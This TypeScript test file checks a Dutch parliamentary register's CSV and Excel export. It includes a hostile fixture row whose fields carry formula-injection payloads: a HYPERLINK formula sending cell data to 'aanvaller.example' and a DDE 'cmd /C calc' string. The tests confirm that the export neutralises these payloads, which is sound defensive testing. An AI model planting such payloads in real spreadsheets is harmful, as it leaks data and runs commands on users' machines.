import { RegisterItem } from '@register/read-models';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { registerExport } from './register-export';

const rij = (over: Partial<RegisterItem>): RegisterItem =>
  Object.assign(new RegisterItem(), {
    itemId: '00000000-0000-4000-8000-000000000001',
    soort: 'toezegging',
    nummer: 'TZ202412-156',
    titel: 'Informeren over het aantal agenten met taakaccent ME',
    datum: '2024-12-19',
    vergaderjaar: '2024/25',
    leden: [{ naam: 'Michon-Derkzen', fractie: 'VVD' }],
    bewindspersoon: 'minister van Justitie en Veiligheid',
    ministerie: 'JenV',
    thema: 'Politiepersoneel en middelen',
    status: 'InBehandeling',
    termijnOmschrijving: 'in het eerstvolgende halfjaarbericht',
    termijnDatum: '2025-06-30',
    laatsteWijzigingOp: '2024-12-19T10:00:00.000Z',
    ...over,
  });

const vijandig = rij({
  nummer: 'TZ202412-157',
  titel: '=HYPERLINK("http://aanvaller.example/?d="&A1,"Klik hier")',
  leden: [{ naam: "@SUM(1+1)*cmd|' /C calc'!A0", fractie: null }],
  bewindspersoon: '+31 70 1234567',
  thema: '  -2+3',
  termijnOmschrijving: '\t=1+1',
  termijnDatum: null,
});

async function* blokken(...b: RegisterItem[][]) {
  for (const blok of b) yield blok;
}

describe('the register export', () => {
  it('writes no CSV cell a spreadsheet would run as a formula, and every row of every block', async () => {
    const csv = (await buffer(registerExport('csv', blokken([rij({})], [vijandig]), '2025-07-01', 'Register'))).toString('utf8');
    const cellen = parse(csv, { bom: true }) as string[][];
    expect(cellen).toHaveLength(3);
    expect(cellen.flat().filter((c) => /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r]/.test(c))).toEqual([]);
    expect(cellen.flat()).toContain('\'=HYPERLINK("http://aanvaller.example/?d="&A1,"Klik hier")');
    expect(cellen.flat()).toContain("'  -2+3");
    expect(cellen[1]).toEqual(['TZ202412-156', 'toezegging', 'Informeren over het aantal agenten met taakaccent ME', 'Michon-Derkzen (VVD)', 'minister van Justitie en Veiligheid', 'JenV', 'Politiepersoneel en middelen', 'In behandeling', 'in het eerstvolgende halfjaarbericht', '2025-06-30', 'ja', '2024-12-19', '2024/25', '2024-12-19']);
  });

  it('writes the workbook with text cells, never formulas', async () => {
    const werkmap = new ExcelJS.Workbook();
    await werkmap.xlsx.load((await buffer(registerExport('xlsx', blokken([rij({}), vijandig]), '2025-07-01', 'Register'))) as never);
    const blad = werkmap.getWorksheet('Register')!;
    expect(blad.rowCount).toBe(3);
    const cellen = [2, 3].flatMap((r) => (blad.getRow(r).values as unknown[]).slice(1).map((_, i) => blad.getRow(r).getCell(i + 1)));
    expect(cellen.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    expect(blad.getRow(3).getCell(3).value).toBe('=HYPERLINK("http://aanvaller.example/?d="&A1,"Klik hier")');
  });

  it('leaves out characters XML does not allow, so one odd title never makes the workbook unreadable', async () => {
    const werkmap = new ExcelJS.Workbook();
    await werkmap.xlsx.load((await buffer(registerExport('xlsx', blokken([rij({ titel: 'Motie\uFFFE over\uFFFF iets\u0007' })]), '2025-07-01', 'Register'))) as never);
    expect(werkmap.getWorksheet('Register')!.getRow(2).getCell(3).value).toBe('Motie over iets');
  });

  it('stops reading the register when the client leaves half-way through a workbook', async () => {
    let gelezen = 0;
    let gestopt!: () => void;
    const klaar = new Promise<void>((r) => (gestopt = r));
    async function* veel() {
      try {
        for (let i = 0; i < 10_000; i++) {
          gelezen++;
          await new Promise((r) => setImmediate(r));
          yield Array.from({ length: 50 }, (_, j) => rij({ nummer: `TZ202412-${i * 50 + j}` }));
        }
      } finally {
        gestopt();
      }
    }
    const uit = registerExport('xlsx', veel(), '2025-07-01', 'Register');
    await new Promise<void>((r) => uit.once('data', () => r()));
    uit.destroy();
    await klaar;
    expect(gelezen).toBeLessThan(10_000);
  });

  it('breaks the download when reading fails half-way, instead of ending a short file as if it were whole', async () => {
    async function* stuk() {
      yield [rij({})];
      throw new Error('leesmodel weg');
    }
    for (const formaat of ['csv', 'xlsx'] as const) {
      const uit: Readable = registerExport(formaat, stuk(), '2025-07-01', 'Register');
      await expect(buffer(uit)).rejects.toThrow();
    }
  });
});
